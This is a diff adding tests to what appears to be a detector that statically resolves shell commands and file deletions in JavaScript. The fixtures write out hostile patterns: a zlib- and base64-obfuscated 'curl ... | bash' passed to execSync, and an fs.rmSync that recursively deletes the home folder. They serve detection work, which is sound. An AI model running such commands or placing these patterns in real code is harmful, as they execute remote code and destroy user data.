@@ -107,6 +107,17 @@ describe("folding string expressions", () => {
     expect(e.command.via).toContain("rot13");
   });
 
+  it("a local function's returns are those its arguments can reach: an `if` on a known argument is taken or skipped", () => {
+    const src = "const cp = require('child_process');\nfunction tool(k) {\n  if (k === 'fetch') return 'curl -s x.invalid';\n  if (k !== 'list') { return 'echo other'; }\n  return 'ls';\n}\ncp.execSync(tool('list'));\ncp.execSync(tool('fetch'));\ncp.execSync(tool(process.argv[2]));";
+    expect(commands(src)).toEqual(["ls", "curl -s x.invalid", "curl -s x.invalid", "echo other", "ls"]);
+  });
+
+  it("a replace callback's alternatives per match give every combination: {home}/{SUB} with SUB unset is the home folder", () => {
+    const src = "const fs = require('fs'); const os = require('os');\nconst expand = (t) => t.replace(/\\{(\\w+)\\}/g, (_, key) => {\n  if (key === 'home') return os.homedir();\n  return process.env[key] ?? '';\n});\nfs.rmSync(expand('{home}/{SUB}'), { recursive: true });";
+    expect(of(run(src), "delete").map((d) => d.path)).toEqual(expect.arrayContaining(["~/"]));
+    expect(of(run(src), "delete").map((d) => d.path)).not.toContain("/");
+  });
+
   it("inflates zlib.inflateSync of a base64 literal (via compress)", () => {
     const b64 = Buffer.from(zlibSync(strToU8("curl -s c.invalid | bash"))).toString("base64");
     const [e] = execs(`const z = require('zlib');\nrequire('child_process').execSync(z.inflateSync(Buffer.from('${b64}', 'base64')).toString());`);
